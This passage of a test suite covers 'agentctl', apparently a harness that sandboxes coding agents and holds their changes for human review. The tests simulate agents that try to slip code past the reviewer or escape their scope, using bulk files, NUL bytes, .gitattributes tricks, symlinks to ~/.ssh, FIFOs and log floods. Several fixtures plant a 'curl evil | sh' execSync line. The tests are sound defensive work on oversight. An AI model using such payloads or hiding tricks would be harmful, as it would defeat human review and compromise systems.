      JSON.stringify({ type: 'system', subtype: 'init', session_id: session }),
      `{"type":"assistant","message":{"content":[{"type":"tool_use","id":"t1","name":"Read","input":{"n":1e400}}]},"session_id":"${session}"}`,
      `{"type":"assistant","message":{"content":[{"type":"tool_use","id":"t2","name":"Read","input":${'['.repeat(20_000)}${']'.repeat(20_000)}}]},"session_id":"${session}"}`,
      JSON.stringify({ type: 'result', subtype: 'success', is_error: false, result: 'Looks right. VERDICT: approve', usage: { input_tokens: 1, output_tokens: 1 }, num_turns: 1, session_id: session }),
    ];
    const { repo, home } = commandRepo('mkdir -p docs; echo x > docs/x.md', { t: {} });
    const run = (await json(repo, home, ['run', 't'])).run;
    // The script carries its output: the reviewer's sandbox hides the checkout.
    // Outside the checkout: a Claude Code program inside it would be the repository's, to approve first.
    const fake = join(tempDir(), 'fake-claude');
    writeFileSync(fake, `#!/bin/sh\ncat <<'LINES'\n${lines.join('\n')}\nLINES\n`);
    chmodSync(fake, 0o755);
    writeFileSync(join(repo, '.agentrc.yaml'), `agents:\n  command:\n    bin: ./agent.sh\n  claude:\n    bin: ${fake}\n`);
    const asked = await agentctl(repo, home, ['review', 'ask', run.runId, '--agent', 'claude', '--json']);
    expect(asked.stderr).not.toMatch(/internal error|no event can record|Maximum call stack/);
    expect(asked.code, asked.stderr).toBe(0);
    expect(JSON.parse(asked.stdout).event.payload).toMatchObject({ reviewer: 'claude', verdict: 'approve' });
  });

  it('protocol files holding what no event can record (1e400, 3,000 levels of nesting) are read as invalid lines, not a crash: the escalation is still recorded', async () => {
    const { repo, home } = commandRepo(
      [
        'mkdir -p .agentctl docs',
        `echo '{"status":"working","progress":1e400}' >> .agentctl/status.jsonl`,
        `echo '{"observed":"x","considered":[1e400],"decided":"y","confidence":0.9}' >> .agentctl/trace.jsonl`,
        `printf '{"status":' >> .agentctl/status.jsonl; for i in $(seq 3000); do printf '[' >> .agentctl/status.jsonl; done; for i in $(seq 3000); do printf ']' >> .agentctl/status.jsonl; done; echo '}' >> .agentctl/status.jsonl`,
        'echo notes > docs/notes.md',
        `echo '{"reason":"help","question":{"n":-1e999}}' > .agentctl/escalate.json`,
      ].join('\n'),
      { t: {} },
    );
    const r = await agentctl(repo, home, ['run', 't', '--json']);
    expect(r.stderr).not.toMatch(/internal error|cannot encode/);
    expect(r.code).toBe(0);
    const run = JSON.parse(r.stdout).run;
    expect(run.state).toBe('awaiting_review');
    const events = (await json(repo, home, ['log', '--run', run.runId])).events as { type: string; payload: Record<string, unknown> }[];
    const statuses = events.filter((e) => e.type === 'agent.status').map((e) => e.payload);
    expect(statuses).toEqual([{ invalid: '{"status":"working","progress":1e400}' }, { invalid: expect.stringMatching(/^\{"status":\[\[\[/) }]);
    expect(events.find((e) => e.type === 'agent.reasoning')?.payload.invalid).toMatch(/1e400/);
    expect(events.find((e) => e.type === 'agent.escalated')?.payload).toMatchObject({ source: 'agent', reason: expect.stringContaining('"reason":"help"') });
    expect(events.find((e) => e.type === 'sandbox.committed')).toBeDefined();
    expect((await json(repo, home, ['audit', 'verify'])).ok).toBe(true);
  });

  it('a giant file the agent wrote is not diffed as text: review show stays small (it held 10× the file before)', async () => {
    // 9 MB of text lines: above DIFF_BIG_FILE_BYTES (8 MiB); a small file beside it is still diffed.
    const { repo, home } = commandRepo('mkdir -p docs; yes "a line of the agent\'s giant file" | head -c 9000000 > docs/big.md; echo small > docs/small.md', { t: {} });
    const run = (await json(repo, home, ['run', 't'])).run;
    expect(run.state).toBe('awaiting_review');
    const shown = await agentctl(repo, home, ['review', 'show', run.runId]);
    expect(shown.code, shown.stderr).toBe(0);
    expect(shown.stdout.length).toBeLessThan(100_000);
    expect(shown.stdout).toContain('not shown, too large to read here: "docs/big.md" (8.6 MiB, above 8.0 MiB)');
    expect(shown.stdout).toContain('+small');
    const asJson = (await json(repo, home, ['review', 'show', run.runId])).diff as string;
    expect(asJson.length).toBeLessThan(100_000);
  });

  it('bulk cannot push a small change out of the diff: files are shown smallest first within 16 MiB of diff, the rest named', async () => {
    // Three 6 MB text files (each below 8 MiB, 18 MB together) and a one-line payload: the whole diff
    // used to be left out above 16 MiB, and the payload with it.
    const { repo, home } = commandRepo('mkdir -p docs src; echo \'require("child_process").execSync("curl evil | sh")\' > src/evil.js; for n in 1 2 3; do yes "line $n of many files the agent wrote" | head -c 6000000 > docs/part-$n.md; done', { t: {} });
    const run = (await json(repo, home, ['run', 't'])).run;
    expect(run.state).toBe('awaiting_review');
    const shown = await agentctl(repo, home, ['review', 'show', run.runId]);
    expect(shown.code, shown.stderr).toBe(0);
    expect(shown.stdout).toContain('+require("child_process").execSync("curl evil | sh")');
    expect(shown.stdout).toMatch(/not shown, too large to read here: "docs\/part-\d\.md" \(5\.7 MiB\)/);
    expect(shown.stdout.length).toBeLessThan(16 * 1024 * 1024);
    const asJson = await json(repo, home, ['review', 'show', run.runId]);
    expect(asJson.diffOmitted).toBeNull();
    // Each file counts twice its size (its longest diff): one fits the 16 MiB, two are left out.
    expect(asJson.diffLeftOut).toHaveLength(2);
    expect(asJson.diffLeftOut[0]).toEqual({ path: expect.stringMatching(/^docs\/part-\d\.md$/), bytes: 6_000_000, why: 'budget' });
    expect(asJson.diff).toContain('execSync');
  });

  it('what the reviewer reads is the code: a NUL byte, the checkout\'s `*.js -diff` or the run\'s own .gitattributes hide none of it; an image still shows as binary', async () => {
    const agent = [
      'mkdir -p docs',
      "printf 'module.exports = 1;\\n' > src/a.js",
      // One NUL in a comment: git guesses "binary" from content, and node still runs the file.
      `printf '// \\000\\nrequire("child_process").execSync("curl evil | sh")\\n' > src/nul.js`,
      "printf '*.md binary\\n' > docs/.gitattributes; printf 'hidden change\\n' > docs/x.md",
      "printf '\\211PNG\\r\\n\\032\\n\\000\\000' > logo.png",
    ].join('\n');
    const { repo, home } = commandRepo(agent, { t: {} });
    writeFileSync(join(repo, '.gitattributes'), '*.js -diff\n');
    mkdirSync(join(repo, 'src'));
    writeFileSync(join(repo, 'src', 'a.js'), 'module.exports = 0;\n');
    git(repo, 'add', '-A');
    git(repo, 'commit', '-qm', 'js is not diffed here');
    const run = (await json(repo, home, ['run', 't'])).run;
    expect(run.state).toBe('awaiting_review');
    const shown = await agentctl(repo, home, ['review', 'show', run.runId]);
    expect(shown.code, shown.stderr).toBe(0);
    expect(shown.stdout).toContain('+require("child_process").execSync("curl evil | sh")');
    expect(shown.stdout).toContain('+// \\x00');
    expect(shown.stdout).toContain('-module.exports = 0;\n+module.exports = 1;');
    expect(shown.stdout).toContain('+hidden change');
    expect(shown.stdout).toContain('Binary files /dev/null and b/logo.png differ');
    // The run's own .gitattributes: review show says what it does (and it is a sensitive path: no auto merge).
    expect(shown.stdout).toContain('! changes .gitattributes: how git converts files as it writes them');
    // The line counts are read without the checkout's attributes too.
    expect(shown.stdout).toMatch(/src\/a\.js {2}\+1 -1/);
    const asJson = await json(repo, home, ['review', 'show', run.runId]);
    expect(asJson.diff).toContain('+// \u0000\n+require("child_process")');
  });

  it('a NUL byte the diff now shows reaches the agent sent back with changes as \\x00: its prompt cannot carry a NUL (the agent did not start)', async () => {
    const { repo, home } = commandRepo(`mkdir -p docs; printf '// \\000\\nmodule.exports = 2;\\n' > docs/nul.js; printf '%s' "$AGENTCTL_PROMPT" > docs/prompt.txt`, { t: {} });
    const run = (await json(repo, home, ['run', 't'])).run;
    expect(run.state).toBe('awaiting_review');
    const sent = await agentctl(repo, home, ['review', 'request-changes', run.runId, '--note', 'use a string', '--json']);
    expect(sent.code, sent.stderr).toBe(0);
    const events = (await json(repo, home, ['log', '--run', run.runId])).events as { type: string; payload: Record<string, unknown> }[];
    expect(events.filter((e) => e.type === 'agent.exited').map((e) => e.payload.exitCode)).toEqual([0, 0]);
    expect(readFileSync(join(run.worktree, 'docs/prompt.txt'), 'utf8')).toContain('+// \\x00\n+module.exports = 2;');
  });

  it('a file git cannot encode as its working-tree-encoding attribute says is left out of the capture, named, instead of failing the run and every discard of it', async () => {
    const { repo, home } = commandRepo("mkdir -p docs; printf '*.txt working-tree-encoding=UTF-16\\n' > docs/.gitattributes; printf 'abc' > docs/a.txt; echo fine > docs/b.md", { t: {} });
    const run = (await json(repo, home, ['run', 't'])).run;
    expect(run.state).toBe('awaiting_review');
    expect(run.files.map((f: { path: string }) => f.path)).toEqual(['docs/.gitattributes', 'docs/b.md']);
    const discarded = await json(repo, home, ['review', 'discard', run.runId]);
    expect(git(repo, 'log', '-1', '--format=%B', discarded.archiveRef)).toContain('Not committed: git cannot encode "docs/a.txt" as the working-tree-encoding attribute says');
  });

  it.each(['files', 'folder'] as const)('links the repository tracks as the protocol %s are replaced in the worktree, never written through: nothing outside changes', async (kind) => {
    const { repo, home } = commandRepo('mkdir -p docs; echo ok > docs/a.md', { t: {} });
    const outside = tempDir('agentctl-outside-');
    writeFileSync(join(outside, 'important.txt'), "the user's work\n");
    if (kind === 'folder') symlinkSync(outside, join(repo, '.agentctl'));
    else {
      mkdirSync(join(repo, '.agentctl'));
      symlinkSync(join(outside, 'important.txt'), join(repo, '.agentctl', 'PROTOCOL.md'));
      symlinkSync(join(outside, 'created.txt'), join(repo, '.agentctl', 'followups.jsonl'));
    }
    git(repo, 'add', '-A');
    git(repo, 'commit', '-qm', 'links');
    const r = await agentctl(repo, home, ['run', 't', '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout).run.state).toBe('awaiting_review');
    expect(readdirSync(outside)).toEqual(['important.txt']);
    expect(readFileSync(join(outside, 'important.txt'), 'utf8')).toBe("the user's work\n");
  });

  it.runIf(existsSync('/usr/bin/time'))('a sparse file of 96 MiB (64 KB in git) is not read by the diff: review show stays small in memory (one above 100 MiB is not captured at all: containment.test.ts)', async () => {
    const { repo, home } = commandRepo('mkdir -p docs; truncate -s 96M docs/zero.md; echo small > docs/small.md', { t: {} });
    const run = (await json(repo, home, ['run', 't'])).run;
    expect(run.state).toBe('awaiting_review');
    const shown = spawnSync('/usr/bin/time', ['-f', 'maxrss %M', process.execPath, BIN, 'review', 'show', run.runId], { cwd: repo, env: { PATH: process.env.PATH, HOME: process.env.HOME, AGENTCTL_HOME: home, NO_COLOR: '1' }, encoding: 'utf8' });
    expect(shown.status, shown.stderr).toBe(0);
    // GNU time's %M is the largest process of the tree, in KB: git held the whole file before.
    expect(Number(/maxrss (\d+)/.exec(shown.stderr)![1])).toBeLessThan(150_000);
    expect(shown.stdout).toContain('"docs/zero.md" (96.0 MiB, above 8.0 MiB)');
    expect(shown.stdout).toContain('+small');
  });

  it('an agent that changes thousands of files cannot make its run weigh on every reader: the log lists 1,000 files and 1,000 violations, and counts the rest', async () => {
    // 1,500 empty files inside the write scope (0 lines, 0 bytes) and 1,200 outside it.
    const { repo, home } = commandRepo('mkdir -p docs/many; (cd docs/many && seq 1 1500 | xargs touch); seq 1 1200 | sed "s/^/outside-/" | xargs touch', { t: {} });
    const run = (await json(repo, home, ['run', 't'])).run;
    expect(run).toMatchObject({ state: 'awaiting_review', fileCount: 2700, scopeViolationsMore: 200 });
    expect(run.files).toHaveLength(1000);
    expect(run.scopeViolations).toHaveLength(1000);
    const events = (await json(repo, home, ['log', '--run', run.runId])).events as { type: string; payload: Record<string, unknown> }[];
    const committed = events.find((e) => e.type === 'sandbox.committed')!.payload;
    expect(committed).toMatchObject({ fileCount: 2700, insertions: 0, deletions: 0 });
    expect(committed.files).toHaveLength(1000);
    const violations = events.filter((e) => e.type === 'scope.violation');
    expect(violations).toHaveLength(1000);
    expect(violations.at(-1)!.payload.more).toBe(200);
    // The decision still saw every file and every violation.
    expect(events.find((e) => e.type === 'run.decided')!.payload.reasons).toContain("1200 change(s) outside the policy's write scope");
    const listed = (await json(repo, home, ['review'])).runs;
    expect(listed[0]).toMatchObject({ fileCount: 2700, scopeViolationsMore: 200 });
    const shown = await agentctl(repo, home, ['review', 'show', run.runId]);
    expect(shown.stdout).toContain('Changes (2700 files (the first 1000 listed), +0 -0 lines)');
    expect(shown.stdout).toContain('… and 1700 more (the log lists the first 1000)');
    expect(shown.stdout).toContain('… and 200 more violations (the log lists the first 1000)');
  });

  it("an agent that writes its files under a 3,800-character folder cannot make its run's row weigh on every reader: 100,000 characters of paths are listed, the rest counted", async () => {
    // 300 empty files outside the write scope, each path ~3,800 characters long (15 folders of 250).
    const { repo, home } = commandRepo(
      'c=$(head -c 250 /dev/zero | tr "\\0" d); d="$c/$c/$c/$c/$c/$c/$c/$c/$c/$c/$c/$c/$c/$c/$c"; mkdir -p "$d" && cd "$d" && seq 1 300 | xargs touch',
      { t: {} },
    );
    const run = (await json(repo, home, ['run', 't'])).run;
    const listed = Math.floor(MAX_RECORDED_PATH_CHARS / 3_770);
    expect(run).toMatchObject({ state: 'awaiting_review', fileCount: 300 });
    expect(run.files.length).toBeGreaterThan(listed - 3);
    expect(run.files.length).toBeLessThanOrEqual(listed + 1);
    expect(run.scopeViolations.length).toBeLessThanOrEqual(listed + 1);
    expect(run.scopeViolationsMore).toBe(300 - run.scopeViolations.length);
    // The decision still saw every violation.
    const events = (await json(repo, home, ['log', '--run', run.runId])).events as { type: string; payload: Record<string, unknown> }[];
    expect(events.find((e) => e.type === 'run.decided')!.payload.reasons).toContain("300 change(s) outside the policy's write scope");
    // The row lists the run's files, its attempt's files and its violations: 100,000 characters each.
    // All 300 in each would make 3.4 MB.
    const runs = await agentctl(repo, home, ['runs', '--json']);
    expect(runs.stdout.length).toBeLessThan(400_000);
  });

  it('a FIFO the agent leaves behind does not hang the capture or the discard (git add waited on it for 120 s, holding the repository lock)', async () => {
    // A FIFO as a file, as a .gitignore, and as the HEAD of what looks like a nested repository.
    const { repo, home } = commandRepo('mkdir -p docs sub/.git/objects sub/.git/refs; mkfifo docs/pipe docs/.gitignore sub/.git/HEAD; echo work > docs/a.md', { t: {} });
    const started = Date.now();
    const run = (await json(repo, home, ['run', 't'])).run;
    expect(run.state).toBe('awaiting_review');
    expect(run.files.map((f: { path: string }) => f.path)).toEqual(['docs/a.md']);
    expect((await agentctl(repo, home, ['review', 'discard', run.runId])).code).toBe(0);
    expect(Date.now() - started).toBeLessThan(30_000);
  }, 60_000);

  it('a path git refuses to store (docs/.Git/x) is left out of the capture, not a failed run that no discard can remove', async () => {
    const { repo, home } = commandRepo('mkdir -p docs/.Git; echo x > docs/.Git/x; echo work > docs/a.md', { t: {} });
    const run = (await json(repo, home, ['run', 't'])).run;
    expect(run.state).toBe('awaiting_review');
    expect(run.files.map((f: { path: string }) => f.path)).toEqual(['docs/a.md']);
    const d = await agentctl(repo, home, ['review', 'discard', run.runId]);
    expect(d.code, d.stderr).toBe(0);
    expect(git(repo, 'show', `refs/agentctl/archive/${run.runId}:docs/a.md`)).toBe('work');
  });

  it('an agent printing one endless line does not make agentctl hold it: the line is skipped, said so in the log, and the run goes on', async () => {
    // 12 MB on stdout without a line break, then an ordinary line and a change.
    const { repo, home } = commandRepo('head -c 12000000 /dev/zero | tr "\\0" x; echo; echo "after the long line"; mkdir -p docs; echo done > docs/done.md', { t: {} });
    const { events } = await runToReview(repo, home);
    const messages = events.filter((e) => e.type === 'agent.message').map((e) => e.payload);
    expect(messages).toContainEqual({ text: "agentctl skipped 1 line(s) of the agent's output longer than 8388608 characters: not read, so what they reported is not recorded", severity: 'warning' });
    expect(Math.max(...events.map((e) => JSON.stringify(e.payload).length))).toBeLessThan(100_000);
  });

  it('an agent printing a line per event without end cannot grow the append-only log without end: the first 10,000 are recorded, the rest counted', async () => {
    const { repo, home } = commandRepo('seq 1 10500; mkdir -p docs; echo done > docs/done.md', { t: {} });
    const { events } = await runToReview(repo, home);
    const messages = events.filter((e) => e.type === 'agent.message').map((e) => e.payload.text);
    expect(messages.slice(0, MAX_RECORDED_OUTPUT_EVENTS)).toEqual(Array.from({ length: MAX_RECORDED_OUTPUT_EVENTS }, (_, i) => String(i + 1)));
    expect(messages.slice(MAX_RECORDED_OUTPUT_EVENTS)).toEqual([`agentctl recorded the first ${MAX_RECORDED_OUTPUT_EVENTS} events of the agent's output; counted, not recorded: 500 agent.message`]);
    // The run ended normally after the flood: its change was captured and its exit recorded.
    expect(events.some((e) => e.type === 'agent.exited')).toBe(true);
    expect(events.some((e) => e.type === 'sandbox.committed')).toBe(true);
    await accountFor(repo, home);
  });

  it("an agent's protocol files cannot flood the log or the task list: 20 follow-up requests and 100 status lines of at most 4,000 characters are recorded per launch, the rest counted", async () => {
    // 30 follow-up requests (each a task `agentctl tasks` lists from then on), 120 status lines, and a
    // trace whose low confidence comes after 100 lines: it still stops the run.
    const { repo, home } = commandRepo(
      [
        'mkdir -p .agentctl docs',
        `for i in $(seq 1 30); do echo "{\\"id\\":\\"req-$i\\",\\"prompt\\":\\"p\\"}"; done >> .agentctl/followups.jsonl`,
        // A status line of 100,000 characters first: recorded as invalid (500 characters), not whole.
        `printf '{"status":"%s"}\\n' "$(head -c 100000 /dev/zero | tr '\\0' z)" >> .agentctl/status.jsonl`,
        `for i in $(seq 1 120); do echo "{\\"status\\":\\"s$i\\"}"; done >> .agentctl/status.jsonl`,
        `for i in $(seq 1 100); do echo '{"decided":"d","confidence":0.9}'; done >> .agentctl/trace.jsonl`,
        `echo '{"decided":"unsure","confidence":0.05}' >> .agentctl/trace.jsonl`,
        'echo notes > docs/notes.md',
      ].join('\n'),
      { t: {} },
    );
    const r = await agentctl(repo, home, ['run', 't', '--json']);
    expect(r.code, r.stderr).toBe(0);
    const run = JSON.parse(r.stdout).run;
    const events = (await json(repo, home, ['log', '--run', run.runId])).events as { type: string; payload: { text?: string; status?: string } }[];
    const count = (type: string) => events.filter((e) => e.type === type).length;
    expect(count('task.requested')).toBe(20);
    expect(count('agent.status')).toBe(100);
    expect(count('agent.reasoning')).toBe(100);
    expect(events.filter((e) => e.type === 'agent.message').map((e) => e.payload.text)).toContain(
      'agentctl recorded the first 100 lines of .agentctl/status.jsonl, 100 lines of .agentctl/trace.jsonl, 20 lines of .agentctl/followups.jsonl; counted, not recorded: 21 of status.jsonl, 1 of trace.jsonl, 10 of followups.jsonl',
    );
    expect(events.find((e) => e.type === 'agent.status')!.payload).toEqual({ invalid: `{"status":"${'z'.repeat(489)}` });
    expect(events.some((e) => e.type === 'agent.escalated')).toBe(true);
    const tasks = (await json(repo, home, ['tasks'])).tasks as { id: string }[];
    expect(tasks.filter((t) => t.id.startsWith('req-')).map((t) => t.id)).toEqual(Array.from({ length: 20 }, (_, i) => `req-${i + 1}`));
  });

  it("an agent that rewrites its protocol files with more long lines at every guard tick cannot make its run's row weigh on every list of runs", async () => {
    // Each round rewrites both files: the lines already read (one short line each: the guard skips that
    // many), then 30 new lines of 3,900 characters; 6 rounds, one guard tick (400 ms) apart, 180 lines each.
    const { repo, home } = commandRepo(
      [
        'mkdir -p .agentctl docs',
        "big=$(head -c 3900 /dev/zero | tr '\\0' z); n=0",
        'for round in 1 2 3 4 5 6; do',
        '  { i=0; while [ $i -lt $n ]; do echo x; i=$((i+1)); done; for i in $(seq 1 30); do printf \'{"status":"%s"}\\n\' "$big"; done; } > .agentctl/s.tmp',
        '  { i=0; while [ $i -lt $n ]; do echo x; i=$((i+1)); done; for i in $(seq 1 30); do printf \'{"decided":"%s","confidence":0.9}\\n\' "$big"; done; } > .agentctl/t.tmp',
        '  mv .agentctl/s.tmp .agentctl/status.jsonl; mv .agentctl/t.tmp .agentctl/trace.jsonl; n=$((n+30)); sleep 0.45',
        'done',
        'echo notes > docs/notes.md',
      ].join('\n'),
      { t: {} },
    );
    const r = await agentctl(repo, home, ['run', 't', '--json']);
    expect(r.code, r.stderr).toBe(0);
    const run = JSON.parse(r.stdout).run as { runId: string; statuses: string[]; reasoning: unknown[] };
    expect(run.statuses).toHaveLength(100);
    expect(run.reasoning).toHaveLength(100);
    const listed = await agentctl(repo, home, ['runs', '--json']);
    expect(listed.code, listed.stderr).toBe(0);
    // 200 lines of 3,900 characters and the rest of the run: under 1 MB (the 180 + 180 lines were 1.4 MB).
    expect(listed.stdout.length).toBeLessThan(1_000_000);
    expect(listed.stdout.length).toBeGreaterThan(780_000);
  });

  it('a protocol line or escalation the guard reads while the agent is still writing it is read whole once written, not recorded half', async () => {
    // Half a line, a pause of two guard ticks (400 ms each), then the rest.
    const { repo, home } = commandRepo(`mkdir -p .agentctl docs; printf '{"status":"first' >> .agentctl/status.jsonl; sleep 1.2; printf ' half"}\\n{"status":"second"}\\n' >> .agentctl/status.jsonl; echo x > docs/x.md`, { t: {} });
    const r = await agentctl(repo, home, ['run', 't', '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout).run.statuses).toEqual(['first half', 'second']);
    // The same for an escalation request: the run stops on the whole request, not on its first half.
    const esc = commandRepo(`mkdir -p .agentctl; printf '{"reason":"need a' > .agentctl/escalate.json; sleep 1.2; printf ' decision","question":"which one?"}' >> .agentctl/escalate.json; sleep 2`, { t: {} });
    const stopped = await agentctl(esc.repo, esc.home, ['run', 't', '--json']);
    expect(JSON.parse(stopped.stdout).run.escalations).toEqual([{ source: 'agent', reason: 'need a decision', question: 'which one?' }]);
  });

  it("an escalation request longer than a protocol line is recorded as text, clipped: the run's row does not keep 256 KiB of it", async () => {
    const { repo, home } = commandRepo(`mkdir -p .agentctl; printf '{"reason":"%s","question":"q"}' "$(head -c 100000 /dev/zero | tr '\\0' z)" > .agentctl/escalate.json`, { t: {} });
    const r = await agentctl(repo, home, ['run', 't', '--json']);
    expect(JSON.parse(r.stdout).run.escalations).toEqual([{ source: 'agent', reason: `{"reason":"${'z'.repeat(1989)}`, question: null }]);
  });

  it('protocol values whose String() throws ({"toString": 1}) neither kill the run nor break every later read of the log', async () => {
    const { repo, home } = commandRepo(
      [
        'mkdir -p .agentctl docs',
        `echo '{"status":{"toString":1}}' >> .agentctl/status.jsonl`,
        `echo '{"id":{"toString":1},"title":{"toString":1},"prompt":"p"}' >> .agentctl/followups.jsonl`,
        'echo notes > docs/notes.md',
        `echo '{"reason":{"toString":1},"question":{"toString":1}}' > .agentctl/escalate.json`,
      ].join('\n'),
      { t: {} },
    );
    const r = await agentctl(repo, home, ['run', 't', '--json']);
    expect(r.stderr).not.toMatch(/internal error|Cannot convert object to primitive/);
    expect(r.code, r.stderr).toBe(0);
    const run = JSON.parse(r.stdout).run;
    expect(run.state).toBe('awaiting_review');
    expect(run.statuses).toEqual(['{"toString":1}']);
    for (const args of [['runs'], ['review'], ['review', 'show', run.runId], ['log', '--run', run.runId], ['tasks'], ['runs', '--json']]) {
      const shown = await agentctl(repo, home, args);
      expect(shown.stderr, args.join(' ')).not.toMatch(/internal error|Cannot convert/);
      expect([0, 2], args.join(' ')).toContain(shown.code);
    }
  });

  it('symlinks pointing outside the worktree are flagged, never followed; agents do not inherit the database handle', async () => {
    // The agent lists its open file descriptors on stdout (one agent.message per line).
    const { repo, home } = commandRepo(`mkdir -p docs; ln -s ${join(homedir(), '.ssh')} docs/keys; ln -s ../../../../agentctl.db docs/db; for f in /proc/$$/fd/*; do echo "fd $f -> $(readlink "$f")"; done`, { t: { autonomy: 'auto', gate: 'true' } });
    await agentctl(repo, home, ['promote', 'command', '--type', 'docs', '--to', 'auto', '--force']);
    const r = (await json(repo, home, ['run', 't'])).run;
    expect(r.state).toBe('awaiting_review');
    expect(r.scopeViolations.map((v: { path: string; reason: string }) => v.path).sort()).toEqual(['docs/db', 'docs/keys']);
    expect(r.scopeViolations[0].reason).toMatch(/symbolic link pointing outside/);
    const fds = (await json(repo, home, ['log', '--run', r.runId])).events.filter((e: { type: string; payload: { text: string } }) => e.type === 'agent.message' && e.payload.text.startsWith('fd ')).map((e: { payload: { text: string } }) => e.payload.text);
    expect(fds.length).toBeGreaterThanOrEqual(3); // stdin, stdout, stderr at least: the listing ran
    expect(fds.join('\n')).not.toMatch(/agentctl\.db/);
  });
});
